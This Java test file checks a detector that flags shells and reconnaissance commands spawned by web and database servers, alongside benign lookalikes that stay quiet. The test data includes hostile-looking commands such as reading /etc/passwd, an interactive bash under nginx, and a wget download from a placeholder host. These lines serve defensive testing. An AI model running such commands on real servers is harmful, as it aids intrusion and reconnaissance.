package io.hivesec.detectors.lineage;

import static io.hivesec.testkit.HiveAssertions.assertThatFindings;
import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.alert.Finding;
import io.hivesec.alert.Severity;
import io.hivesec.event.Event;
import io.hivesec.spi.Detector;
import io.hivesec.testkit.Detecting;
import io.hivesec.testkit.DetectorContract;
import io.hivesec.testkit.Scene;
import java.util.List;
import org.junit.jupiter.api.Test;

final class ServerSpawnsShellDetectorTest implements DetectorContract {
    private final Scene scene = Scene.in("web");

    @Override
    public Detector detector() {
        return new ServerSpawnsShellDetector();
    }

    @Override
    public List<Event> incident() {
        Scene incident = Scene.in("incident");
        incident.starts("/usr/sbin/php-fpm8.2", "php-fpm").starts("/bin/sh", "sh", "-c", "id");
        return incident.events();
    }

    private List<Finding> found() {
        return Detecting.findings(detector(), scene);
    }

    private Scene.Actor tomcat() {
        return scene.starts("/usr/bin/java", "java", "org.apache.catalina.startup.Bootstrap", "start");
    }

    @Test
    void inspect_shellUnderTomcat_findsIt() {
        tomcat().starts("/bin/sh", "sh", "-c", "cat /etc/passwd");
        assertThatFindings(found()).show("malicious-command.web-server-shell", "telling", "/etc/passwd");
    }

    @Test
    void inspect_interactiveShellUnderNginxWorker_isCritical() {
        scene.starts("/usr/sbin/nginx", "nginx").starts("/bin/bash", "bash", "-i");
        assertThat(found()).first().extracting(Finding::severity).isEqualTo(Severity.CRITICAL);
    }

    @Test
    void inspect_downloadThroughShellOfPhp_findsIt() {
        scene.starts("/usr/sbin/apache2", "apache2").starts("/bin/sh", "sh", "-c", "cd /tmp; wget http://x/y");
        assertThatFindings(found()).show("malicious-command.web-server-shell");
    }

    @Test
    void inspect_whoamiUnderTomcat_findsIt() {
        tomcat().starts("/usr/bin/whoami", "whoami");
        assertThatFindings(found()).show("malicious-command.web-server-recon");
    }

    @Test
    void inspect_shellUnderRedis_findsIt() {
        scene.starts("/usr/bin/redis-server", "redis-server").starts("/bin/sh", "sh", "-c", "id");
        assertThatFindings(found()).show("malicious-command.database-shell");
    }

    @Test
    void inspect_shellUnderPostgres_findsIt() {
        scene.starts("/usr/lib/postgresql/15/bin/postgres", "postgres").starts("/bin/bash", "bash", "-i");
        assertThatFindings(found()).show("malicious-command.database-shell");
    }

    @Test
    void inspect_mailThroughShellOfPhp_isQuiet() {
        scene.starts("/usr/sbin/php-fpm8.2", "php-fpm").starts("/bin/sh", "sh", "-c", "/usr/sbin/sendmail -t -i");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_imageConversion_isQuiet() {
        scene.starts("/usr/sbin/apache2", "apache2").starts("/bin/sh", "sh", "-c", "convert 'a.png' 'b.jpg'");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_pipedLogs_isQuiet() {
        scene.starts("/usr/sbin/apache2", "apache2").starts("/bin/sh", "sh", "-c", "exec rotatelogs /var/log/a 86400");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_archivingOfPostgres_isQuiet() {
        scene.starts("/usr/bin/postgres", "postgres").starts("/bin/sh", "sh", "-c", "test ! -f /a/0 && cp pg/0 /a/0");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_cgiScript_isQuiet() {
        scene.starts("/usr/sbin/apache2", "apache2").starts("/bin/bash", "bash", "/usr/lib/cgi-bin/x.cgi");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_startScriptAboveTheServer_isQuiet() {
        scene.starts("/bin/bash", "bash", "catalina.sh").starts("/usr/bin/java", "java", "-Dcatalina.home=/t", "x");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_optionsOfACheckAtStart_isQuiet() {
        tomcat().starts("/usr/bin/id", "id", "-u");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_shellUnderOtherJvm_isQuiet() {
        scene.starts("/usr/bin/java", "java", "-jar", "batch.jar").starts("/bin/sh", "sh", "-c", "id");
        assertThatFindings(found()).areNone();
    }
}
